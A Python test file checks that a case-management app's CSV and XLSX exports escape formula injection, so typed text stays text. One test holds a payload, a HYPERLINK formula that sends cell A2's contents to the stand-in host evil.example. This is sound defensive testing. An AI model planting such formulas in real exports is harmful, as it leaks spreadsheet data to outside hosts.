"""The registers as files: what people typed comes out as text, never as a formula that
runs when the file is opened (CSV/formula injection)."""

import csv
import io

from openpyxl import load_workbook

from caseflow.disclosure_table import render_disclosure_table_xlsx
from caseflow.models import Case, Engagement
from caseflow.selectors.reports import disclosure_table_data
from tests.api.steps import ok
from tests.personas import complaint

FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'


def test_a_formula_typed_into_a_subject_exports_as_text(people, api):
    case = complaint(people)
    Case.objects.filter(pk=case.pk).update(subject=FORMULA)
    office = api(people.office)

    rows = list(csv.reader(io.StringIO(
        ok(office.get("/api/exports/cases.csv")).content.decode("utf-8-sig"))))
    assert rows[1][rows[0].index("subject")] == "'" + FORMULA

    sheet = load_workbook(io.BytesIO(ok(office.get("/api/exports/cases.xlsx")).content)).active
    [subject] = [c for c in sheet[2] if c.column == rows[0].index("subject") + 1]
    assert (subject.value, subject.data_type) == (FORMULA, "s")


def test_d1_a_note_typed_like_a_formula_is_text_in_the_disclosure_table(people, engagement):
    # A one-entity row shows the entity, not its province: the quality note is typed text.
    Engagement.objects.filter(pk=engagement.pk).update(quality_other="=1+1")
    sheet = load_workbook(io.BytesIO(render_disclosure_table_xlsx(
        disclosure_table_data(engagement.year)))).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value]
    assert not [c for c in cells if c.data_type == "f"]
    assert any(str(c.value).startswith("=1+1") for c in cells)
